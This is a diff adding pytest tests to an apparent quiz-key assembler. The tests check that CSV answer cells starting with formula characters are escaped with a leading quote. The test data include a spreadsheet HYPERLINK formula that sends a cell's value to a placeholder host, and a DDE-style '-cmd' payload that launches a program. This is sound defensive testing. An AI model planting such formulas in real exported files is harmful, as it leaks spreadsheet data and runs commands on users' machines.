@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import subprocess
@@ -277,3 +278,50 @@ def test_a_control_character_in_the_bank_path_is_a_blueprint_error(tmp_path):
     assert r.returncode == 2
     assert (f"{bp}:3:1: bank: a folder path cannot hold control characters (found '\\x00')"
             in r.stderr)
+
+
+def test_key_csv_cells_start_no_formula_and_the_json_keeps_the_text(tmp_path):
+    """A short-answer wording that a spreadsheet would evaluate (OWASP's CSV injection) is
+    written with a leading quote in the CSV, read back by the csv module; the key JSON keeps it
+    as written."""
+    import csv as csv_mod
+    import shutil
+
+    import yaml
+
+    shutil.copytree(ROOT / "items", tmp_path / "items")
+    shutil.copytree(ROOT / "blueprints", tmp_path / "blueprints")
+    formula = '=HYPERLINK("http://x/?d="&A1,"ring")'
+    item = {"schema": 1, "id": "dp-formula", "type": "short_answer",
+            "topic": "data-parallelism/basics", "difficulty": "easy", "status": "reviewed",
+            "answers": [{"id": "ring"}], "text": {
+                "id": {"stem": "Algoritme all-reduce apa yang mengirim data mengelilingi ring GPU?",
+                       "answers": {"ring": [formula]}},
+                "en": {"stem": "Which all-reduce algorithm sends data around a ring of GPUs?",
+                       "answers": {"ring": [formula]}}}}
+    (tmp_path / "items" / "data-parallelism" / "99-formula.yaml").write_text(
+        yaml.safe_dump(item, allow_unicode=True), encoding="utf-8")
+    blueprint = tmp_path / "blueprints" / BLUEPRINT.name
+    bp = yaml.safe_load(blueprint.read_text(encoding="utf-8"))
+    bp["items"], bp["points"] = 9, 9  # every item on each form, the new one too
+    blueprint.write_text(yaml.safe_dump(bp), encoding="utf-8")
+    out = tmp_path / "out"
+    r = run(str(blueprint), "--out", str(out))
+    assert r.returncode == 0, r.stderr
+    rows = list(csv_mod.DictReader(io.StringIO(
+        (out / "dp-quiz-a" / "dp-quiz-a-key.csv").read_text(encoding="utf-8"))))
+    row = next(r for r in rows if r["item"] == "dp-formula")
+    assert row["answer"] == "'" + formula
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
+    key = json.loads((out / "dp-quiz-a" / "dp-quiz-a-key.json").read_text(encoding="utf-8"))
+    entry = next(i for i in key["items"] if i["item"] == "dp-formula")
+    assert formula in json.dumps(entry, ensure_ascii=False).replace('\\"', '"')
+
+
+def test_csv_cells_keep_plain_numbers_and_quote_the_rest():
+    from dpassess.assemble.output import csv_cell
+
+    assert csv_cell("-1.5") == "-1.5" and csv_cell("3") == "3" and csv_cell(2) == "2"
+    for cell in ("-1.5 ± 0.1", "-1+1", "+1", "=1", "@x", "\tx", "\rx", "-cmd|' /C calc'!A0"):
+        assert csv_cell(cell) == "'" + cell
+    assert csv_cell("a=b") == "a=b"
